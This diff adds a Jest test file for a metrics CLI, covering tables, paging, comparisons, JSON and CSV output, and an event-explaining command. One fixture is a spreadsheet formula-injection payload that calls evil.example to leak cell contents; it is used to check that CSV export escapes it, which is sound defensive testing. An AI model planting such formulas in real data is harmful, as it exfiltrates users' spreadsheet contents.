@@ -1,0 +1,328 @@
+/** The commands of a reader, against the real API: metrics in every form, page after page, and the events behind a figure. */
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { DEFAULT_PRICE_BOOK } from '@meterline/catalog';
+import { oneServer, registerPriceBook } from '@meterline/warehouse';
+import { bearer, metricsPath, NOW, startApi, type TestApi } from '../harness/api.js';
+import { type EventSketch, event } from '../harness/events.js';
+import { withApiProxy } from '../harness/services.js';
+import { execute } from '../harness/stack.js';
+import { type MeterlineOptions, runCommand, runMeterline } from './run-command.js';
+
+const DAY = ['metrics', '--from', '2025-10-01', '--to', '2025-10-02'];
+const MONTH = ['metrics', '--month', '2025-10'];
+const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"total")';
+
+let api: TestApi;
+/** The environments of an account that used something for a day, one for months, and one with many resources. */
+let acme: Record<string, string>;
+let initech: Record<string, string>;
+let wide: Record<string, string>;
+
+beforeAll(async () => {
+  api = await startApi();
+  [acme, initech, wide] = await Promise.all([as('acme'), as('initech'), as('wide')]);
+  const used = (resourceName: string, at: string, cost: string) =>
+    event({ accountId: 'initech', resourceName, at, cost });
+  await api.seed([
+    event({ resourceName: FORMULA, cost: '120', usage: '1234567.891' }),
+    event({ at: '2025-10-01T20:00:00Z', cost: '60.5' }),
+    event({ workspace: '東京', cost: '0.000000000001', usage: '0.5' }),
+    ...Array.from({ length: 210 }, (_, n) =>
+      event({ accountId: 'wide', resourceName: `box-${String(n).padStart(3, '0')}`, cost: '0.01' }),
+    ),
+    used('box', '2025-10-01T10:00:00Z', '30'),
+    used('box', '2025-10-31T23:59:59.999Z', '15'),
+    used('disk', '2025-10-02T00:00:00Z', '5'),
+    used('box', '2025-09-30T00:00:00Z', '36'),
+    used('tape', '2025-09-01T00:00:00Z', '4'),
+    used('box', '2025-09-26T00:00:00Z', '0.5'),
+  ]);
+});
+afterAll(() => api.stop());
+
+/** The environment of a caller. */
+async function as(account: string, role?: 'member' | 'operator'): Promise<Record<string, string>> {
+  return { METERLINE_API_URL: api.url, METERLINE_API_KEY: await api.key(account, role) };
+}
+
+async function run(args: readonly string[], env = acme, options: MeterlineOptions = {}) {
+  return runCommand(args, { env, ...options });
+}
+
+/** Its lines without the sparklines. */
+function linesOf(stdout: string): string[] {
+  return stdout.split('\n').map((line) => line.replace(/ +[·▁-█]+$/, ''));
+}
+
+describe('the table', () => {
+  it('the table adds up, with shares and bars', async () => {
+    expect(await run([...DAY, '--group-by', 'workspace'])).toEqual({
+      code: 0,
+      stderr: '',
+      stdout: [
+        'acme: 2025-10-01T00:00:00Z to 2025-10-02T00:00:00Z (UTC), hourly',
+        '',
+        'WORKSPACE             COST   SHARE  TREND',
+        'main               $180.50  >99.9%  ··········█·········▅···',
+        '東京       $0.000000000001   <0.1%  ··········█·············',
+        'Total              $180.50  100.0%',
+        '',
+      ].join('\n'),
+    });
+  });
+
+  it('the table has all accounts of an operator', async () => {
+    const args = [...DAY, '--all-accounts', '--group-by', 'account'];
+    const { stdout } = await run(args, await as('platform', 'operator'));
+    expect(linesOf(stdout)).toEqual([
+      'All accounts: 2025-10-01T00:00:00Z to 2025-10-02T00:00:00Z (UTC), hourly',
+      '',
+      'ACCOUNT     COST   SHARE  TREND',
+      'acme     $180.50   84.9%',
+      'initech   $30.00   14.1%',
+      'wide       $2.10    1.0%',
+      'Total    $212.60  100.0%',
+      '',
+    ]);
+    expect((await run(args)).stdout).not.toContain('wide');
+  });
+
+  it('the table says that a resource is of several workspaces, to an admin alone', async () => {
+    const args = [...DAY, '--group-by', 'resource_name', '--resource-name', 'box'];
+    const [seen, hidden] = [await run(args), await run(args, await as('acme', 'member'))];
+    expect(seen.stdout).toMatch(/^several workspaces +sandbox +box +\$60\.50/m);
+    expect(hidden.stdout).toMatch(/^sandbox +box +\$60\.50/m);
+  });
+
+  it('the table has usage with its unit, and every digit with --exact', async () => {
+    const { stdout } = await run([...DAY, '--group-by', 'billing_dimension,workspace', '--exact']);
+    expect(stdout).toMatch(/^main +sandbox +sandbox_compute_runtime_gbs +\$180\.50 +>99\.9% +1,234,568\.891 GB-s /m);
+    expect(stdout).toMatch(/^Total +\$180\.500000000001 +100\.0%$/m);
+  });
+
+  it('the table has what is on other pages as a row of its own, or reads them with --all', async () => {
+    const args = [...DAY, '--group-by', 'resource_name'];
+    const [first, all] = await Promise.all([run(args, wide), run([...args, '--all'], wide)]);
+    expect(first.stderr).toBe('These are the first 100 groups; --all reads every page.\n');
+    expect(first.stdout).toMatch(/^\(other groups\) .* \$1\.10 +52\.4%$/m);
+    expect(first.stdout).toMatch(/^Total .* \$2\.10 +100\.0%$/m);
+    expect(all.stderr).toBe('Read 210 groups on 3 pages.\n');
+    expect(all.stdout.match(/^main .*box-\d{3} /gm)).toHaveLength(210);
+    expect(all.stdout).not.toContain('other groups');
+  });
+
+  it('the table of a month has the month before beside it, and adds up', async () => {
+    const { stdout, stderr } = await run([...MONTH, '--group-by', 'resource_name', '--compare'], initech);
+    expect(stderr).toBe('');
+    expect(linesOf(stdout)).toEqual([
+      'initech: 2025-10-01T00:00:00Z to 2025-11-01T00:00:00Z (UTC), daily',
+      'Before: 2025-09-01T00:00:00Z to 2025-10-01T00:00:00Z, 1 month earlier',
+      '',
+      'WORKSPACE       TYPE     RESOURCE    COST   SHARE  BEFORE   CHANGE  TREND',
+      'main            sandbox  box       $45.00   90.0%  $36.50   +23.3%',
+      'main            sandbox  disk       $5.00   10.0%   $0.00      new',
+      '(other groups)                      $0.00    0.0%   $4.00  -100.0%',
+      'Total                              $50.00  100.0%  $40.50   +23.5%',
+      '',
+    ]);
+  });
+
+  it('the table says that nothing was used', async () => {
+    const { code, stdout } = await run(['metrics', '--since', '1h', '--group-by', 'workspace']);
+    expect({ code, stdout }).toMatchObject({ code: 0, stdout: expect.stringContaining('Nothing was used') });
+  });
+
+  it('--watch asks again until Ctrl-C, and prints nothing for terminals where there is none', async () => {
+    const interruptAt = /metrics\?[\s\S]*metrics\?.*\n/;
+    const watched = await runMeterline([...MONTH, '--watch', '1', '--debug'], { env: initech, interruptAt });
+    expect(watched.code).toBe(0);
+    expect(watched.stdout.match(/^Total +\$50\.00/gm)?.length).toBeGreaterThanOrEqual(1);
+    expect(watched.stdout).not.toContain('\u001b');
+  });
+
+  it('--debug says what was asked, when, and its request id, and never the key', async () => {
+    const { stdout, stderr } = await run([...MONTH, '--debug', '--json'], initech);
+    const [places, account, metrics] = stderr.trimEnd().split('\n');
+    expect(places).toMatch(
+      /^meterline: API http:\S+ \(environment: METERLINE_API_URL\), key mlk_\w{6}… \(environment: METERLINE_API_KEY\)$/,
+    );
+    expect(account).toMatch(/^meterline: GET \/v0\/accounts\?\S+: 200 in /);
+    const said =
+      /^meterline: GET (\S+): 200 in [\d,]+ ms \([\d,]+ ms after the start\), ([\d,]+) bytes, request ([0-9a-f-]{36})$/;
+    const [, path, bytes, requestId] = said.exec(metrics ?? '') ?? [];
+    expect(path).toBe(
+      '/v0/accounts/initech/metrics?resolution=daily&startTime=2025-10-01T00%3A00%3A00Z&endTime=2025-11-01T00%3A00%3A00Z',
+    );
+    expect(bytes).toBe((Buffer.byteLength(stdout) - 1).toLocaleString('en-US'));
+    expect(api.log).toContainEqual(expect.objectContaining({ requestId }));
+    expect(stdout + stderr).not.toContain(initech['METERLINE_API_KEY']);
+  });
+});
+
+describe('JSON and CSV', () => {
+  it('--json is what the API answers, and with --all a page a line', async () => {
+    const query = { startTime: '2025-10-01T00:00:00Z', endTime: '2025-10-02T00:00:00Z' };
+    const { text } = await api.request(metricsPath('acme', query), bearer(acme['METERLINE_API_KEY'] ?? ''));
+    expect((await run([...DAY, '--json'])).stdout).toBe(`${text}\n`);
+    const { stdout } = await run([...DAY, '--group-by', 'resource_name', '--limit', '1', '--all', '--json']);
+    const pages = stdout.trimEnd().split('\n');
+    expect(pages.map((page) => JSON.parse(page).data[0].resourceName)).toEqual([FORMULA, 'box']);
+  });
+
+  it('--json --compare has the time before in a second line: whole weeks earlier with period', async () => {
+    const { stdout } = await run([...MONTH, '--compare', 'period', '--json'], initech);
+    const answers = stdout.trimEnd().split('\n');
+    const found = answers.map((line) => JSON.parse(line));
+    expect(found.map(({ startTime, endTime, summary }) => [startTime, endTime, summary.totalCost])).toEqual([
+      ['2025-10-01T00:00:00Z', '2025-11-01T00:00:00Z', 50],
+      ['2025-08-27T00:00:00Z', '2025-09-27T00:00:00Z', 4.5],
+    ]);
+  });
+
+  it('filters are sent to the API', async () => {
+    const filters = [
+      '--filter',
+      'resourceName!=tape',
+      '--resource-name',
+      'box',
+      '--filter',
+      'withoutResourceUuid!=true',
+    ];
+    expect((await run([...MONTH, ...filters, '--json'], initech)).stdout).toContain('"summary":{"totalCost":45}');
+  });
+
+  it.each<[string, 'acme' | 'initech', string[], string[]]>([
+    [
+      'names that are no formulas and amounts that are exact',
+      'acme',
+      [...DAY, '--group-by', 'resource_name,billing_dimension'],
+      [
+        'workspace,resourceType,resourceName,billingDimension,startTime,endTime,costUsd,usage,unit,sharePercent',
+        `main,sandbox,"'=HYPERLINK(""http://evil.example/?""&A1,""total"")",sandbox_compute_runtime_gbs,2025-10-01T00:00:00Z,2025-10-02T00:00:00Z,120,1234567.891,gbs,66.481994`,
+        ',sandbox,box,sandbox_compute_runtime_gbs,2025-10-01T00:00:00Z,2025-10-02T00:00:00Z,60.500000000001,1.5,gbs,33.518006',
+      ],
+    ],
+    [
+      'a line for each bucket with --series',
+      'acme',
+      [...DAY, '--resolution', 'daily', '--series'],
+      ['timestamp,resolution,costUsd', '2025-10-01T00:00:00Z,daily,180.500000000001'],
+    ],
+    [
+      'the time before with --compare',
+      'initech',
+      [...MONTH, '--group-by', 'workspace', '--compare'],
+      [
+        'workspace,startTime,endTime,costUsd,sharePercent,previousCostUsd,changeUsd,changePercent',
+        'main,2025-10-01T00:00:00Z,2025-11-01T00:00:00Z,50,100,40.5,9.5,23.45679',
+      ],
+    ],
+  ])('--csv has a byte order mark and %s', async (_what, account, args, lines) => {
+    const { stdout } = await run([...args, '--csv'], account === 'acme' ? acme : initech);
+    expect(stdout).toBe(`\uFEFF${lines.join('\r\n')}\r\n`);
+  });
+});
+
+describe('pages whose answer changes', () => {
+  /** Reads an account of its own, two groups at a time; calls `before` before each request with a cursor, the first being 1. */
+  async function walk(accountId: string, before: (withCursor: number) => void, form: readonly string[]) {
+    await api.seed(
+      [9, 7, 5, 3, 1].map((cost) => event({ accountId, resourceName: `box-${cost}`, cost: String(cost) })),
+    );
+    let withCursor = 0;
+    const interfere = async (path: string) => {
+      if (path.includes('cursor=')) before(++withCursor);
+      return undefined;
+    };
+    const env = await as(accountId);
+    const args = [...MONTH, '--group-by', 'resource_name', '--limit', '2', '--all', ...form];
+    const walked = await withApiProxy(api.url, interfere, (url) => run(args, { ...env, METERLINE_API_URL: url }));
+    api.clock.now = NOW;
+    return walked;
+  }
+  const DAY_MS = 25 * 3_600_000;
+
+  it.each([[[]], [['--json']], [['--csv']]])(
+    'all pages are read again before anything is printed, %j',
+    async (form) => {
+      const expire = (withCursor: number) => {
+        api.clock.now = withCursor === 2 ? new Date(NOW.getTime() + DAY_MS) : NOW;
+      };
+      const { code, stdout, stderr } = await walk(`late${form}`, expire, form);
+      // Each group once, in whatever form.
+      expect([code, stdout.match(/box-\d/g)?.sort()]).toEqual([0, ['box-1', 'box-3', 'box-5', 'box-7', 'box-9']]);
+      expect(stderr).toBe(
+        'Read 4 groups on 2 pages.\nThe answer changed while its pages were read; reading it again.\nRead 5 groups on 3 pages.\n',
+      );
+    },
+  );
+
+  it('pages that change for ever end with what to do, and nothing is printed', async () => {
+    const expire = () => {
+      api.clock.now = new Date(api.clock.now.getTime() + DAY_MS);
+    };
+    expect(await walk('never', expire, ['--json'])).toMatchObject({
+      code: 1,
+      stdout: '',
+      stderr: expect.stringContaining('The answer changed while its pages were read: run the command again'),
+    });
+  });
+});
+
+describe('explain', () => {
+  const HOUR = ['explain', '--from', '2025-10-05T10:00:00Z', '--to', '2025-10-05T11:00:00Z'];
+  let globex: Record<string, string>;
+  beforeAll(async () => {
+    globex = await as('globex');
+    const { warehouse } = api.dependencies;
+    await registerPriceBook(oneServer(warehouse), DEFAULT_PRICE_BOOK);
+    await execute(warehouse, 'SYSTEM STOP MERGES usage_events');
+    const store = (fields: EventSketch) => api.seed([event({ accountId: 'globex', ...fields })]);
+    const first = { eventId: '018f0000-0000-7000-8000-000000000001', at: '2025-10-05T10:30:00.250Z' };
+    await store({ ...first, usage: '1', cost: '0.0000115' });
+    await store({ ...first, usage: '1200', cost: '0.0138', revision: 1 });
+    await store({
+      eventId: '018f0000-0000-7000-8000-000000000002',
+      at: '2025-10-05T10:00:00Z',
+      cost: '2',
+      priceBook: 4,
+    });
+  });
+  afterAll(() => execute(api.dependencies.warehouse, 'SYSTEM START MERGES usage_events'));
+
+  it('explain lists the events with their prices, what they replaced, and their sum', async () => {
+    expect(await run(HOUR, globex)).toEqual({
+      code: 0,
+      stderr: '',
+      stdout: [
+        'TIME                     EVENT                                 WORKSPACE  RESOURCE  DIMENSION                         USAGE                PRICE        COST',
+        '2025-10-05T10:30:00.25Z  018f0000-0000-7000-8000-000000000001  main       box       sandbox_compute_runtime_gbs  1,200 GB-s  $0.0000115 per GB-s     $0.0138',
+        '                           was revision 0                      main       box       sandbox_compute_runtime_gbs      1 GB-s  $0.0000115 per GB-s  $0.0000115',
+        '2025-10-05T10:00:00Z     018f0000-0000-7000-8000-000000000002  main       box       sandbox_compute_runtime_gbs      1 GB-s           ? (book 4)       $2.00',
+        '2 shown                                                                                                                                              $2.0138',
+        '',
+      ].join('\n'),
+    });
+  });
+
+  it('explain says how to go on, prints the answer as it is, and that there is nothing', async () => {
+    const first = await run([...HOUR, '--limit', '1'], globex);
+    const [, cursor = ''] = /--cursor (\S+)\n$/.exec(first.stderr) ?? [];
+    const second = await run([...HOUR, '--limit', '1', '--cursor', cursor, '--json'], globex);
+    expect(JSON.parse(second.stdout).data.map(({ cost }: { cost: number }) => cost)).toEqual([2]);
+    const none = await run([...HOUR, '--filter', 'resourceName=other'], globex);
+    expect(none).toEqual({ code: 0, stderr: '', stdout: 'No event counts in this window.\n' });
+  });
+
+  it('explain goes on over a page that has looked through its part and found none', async () => {
+    const interfere = async (path: string) => {
+      if (!path.includes('/events?')) return undefined;
+      const empty = { data: [], meta: { hasMore: true, nextCursor: 'next' } };
+      if (!path.includes('cursor=')) return { status: 200, body: empty };
+      const { body } = await api.request(path.replace('cursor=next', ''), bearer(globex['METERLINE_API_KEY'] ?? ''));
+      return { status: 200, body };
+    };
+    const shown = await withApiProxy(api.url, interfere, (url) => run(HOUR, { ...globex, METERLINE_API_URL: url }));
+    expect(shown).toMatchObject({ code: 0, stdout: expect.stringContaining('2 shown') });
+  });
+});
